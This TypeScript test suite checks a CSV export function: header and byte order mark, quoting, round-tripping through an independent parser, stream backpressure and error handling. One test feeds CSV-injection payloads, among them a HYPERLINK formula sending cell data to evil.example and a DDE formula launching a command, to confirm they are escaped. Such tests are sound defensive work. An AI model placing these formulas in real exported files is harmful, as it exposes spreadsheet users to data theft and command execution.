import { Writable } from 'node:stream';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { writeCsv, type CsvRecord } from './csv.ts';

const COLUMNS = ['name', 'note'] as const;
type Line = CsvRecord<(typeof COLUMNS)[number]>;

/** Yields two records at a time. */
async function* batchesOf(lines: readonly Line[]): AsyncGenerator<readonly Line[]> {
  for (let from = 0; from < lines.length; from += 2) yield await Promise.resolve(lines.slice(from, from + 2));
}

const written = async (...lines: readonly Line[]): Promise<string> => {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write: (chunk: Buffer, _encoding, done) => {
      chunks.push(chunk);
      done();
    },
  });
  await writeCsv(COLUMNS, batchesOf(lines), sink);
  return Buffer.concat(chunks).toString('utf8');
};

/** Parses with an independent reader. */
const readBack = (text: string): readonly (readonly string[])[] => parse(text, { bom: true, record_delimiter: '\r\n' });

describe('a CSV document', () => {
  it('has a header row, CRLF after each record, and a byte order mark', async () => {
    expect(await written({ name: 'Größe 信頼', note: 'plain' })).to.equal('\uFEFFname,note\r\nGröße 信頼,plain\r\n');
  });

  it('has a header row even without records', async () => {
    expect(await written()).to.equal('\uFEFFname,note\r\n');
  });

  it('quotes text that would end a cell or a record, and doubles quotes', async () => {
    expect(await written({ name: 'a,b', note: 'say "no"' })).to.equal('\uFEFFname,note\r\n"a,b","say ""no"""\r\n');
  });

  it('is read back unchanged by another parser, whatever a cell holds', async () => {
    const hostile = [
      '"',
      '""',
      ',',
      '",',
      '\n',
      '\r',
      '\r\n',
      'a\rb',
      'a\nb',
      '";"',
      "'",
      ';',
      'x\uFEFF',
      ' a ',
      '\u2028',
      '"\r\n"',
    ];
    const lines = hostile.map((text, index) => ({ name: `x${text}`, note: `${index}${text}x` }));
    expect(readBack(await written(...lines)).slice(1)).to.deep.equal(lines.map(({ name, note }) => [name, note]));
  });

  it('is read back unchanged, except the apostrophe before a formula, whatever characters a cell has', async () => {
    const sign = fc.constantFrom(...Array.from('ab \t\r\n",;\'=+-@＝＋－＠\uFEFF\u00a0\u2028é台😀'));
    const text = fc.array(sign, { maxLength: 5 }).map((signs) => signs.join(''));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.record({ name: text, note: text }), { maxLength: 5 }), async (lines) => {
        const expected = lines.map(({ name, note }) =>
          [name, note].map((cell) => (/^[=+\-@\t\r\n＝＋－＠]/.test(cell) ? `'${cell}` : cell)),
        );
        expect(readBack(await written(...lines)).slice(1)).to.deep.equal(expected);
      }),
    );
  });

  it('has no cell that a spreadsheet treats as a formula', async () => {
    const formulas = [
      '=1+1',
      '+1',
      '-1+2',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '=HYPERLINK("https://evil.example?"&A1,"x")',
      "=cmd|' /C calc'!A0",
      '＝1+1',
    ];
    const cells = readBack(await written(...formulas.map((text) => ({ name: text, note: `kept ${text}` }))));
    expect(cells.slice(1)).to.deep.equal(formulas.map((text) => [`'${text}`, `kept ${text}`]));
  });

  it('writes yes and no in words and numbers unchanged, and leaves missing values empty', async () => {
    expect(readBack(await written({ name: true, note: false }, { name: 7, note: null }))).to.deep.equal([
      ['name', 'note'],
      ['yes', 'no'],
      ['7', ''],
    ]);
  });

  it('reads no more records than its consumer takes, and none after the consumer stops', async () => {
    let asked = 0;
    let ended = false;
    async function* endless(): AsyncGenerator<readonly Line[]> {
      try {
        for (;;) {
          asked += 1;
          yield await Promise.resolve([{ name: 'x'.repeat(1_000), note: '' }]);
        }
      } finally {
        ended = true;
      }
    }
    let taken = 0;
    const leaving = new Writable({
      write: (chunk: Buffer, _encoding, done) => {
        taken += chunk.length;
        if (taken > 100_000) leaving.destroy();
        else done();
      },
    });
    const failure: unknown = await writeCsv(COLUMNS, endless(), leaving).catch((error: unknown) => error);
    expect(failure).to.be.instanceOf(Error);
    expect(ended).to.equal(true);
    expect(asked).to.be.below(500);
  });

  it('passes on the error of its records', async () => {
    async function* failing(): AsyncGenerator<readonly Line[]> {
      yield await Promise.resolve([{ name: 'a', note: 'b' }]);
      throw new Error('the database went away');
    }
    const sink = new Writable({
      write: (_chunk, _encoding, done) => {
        done();
      },
    });
    const failure: unknown = await writeCsv(COLUMNS, failing(), sink).catch((error: unknown) => error);
    expect(failure).to.have.property('message', 'the database went away');
  });
});
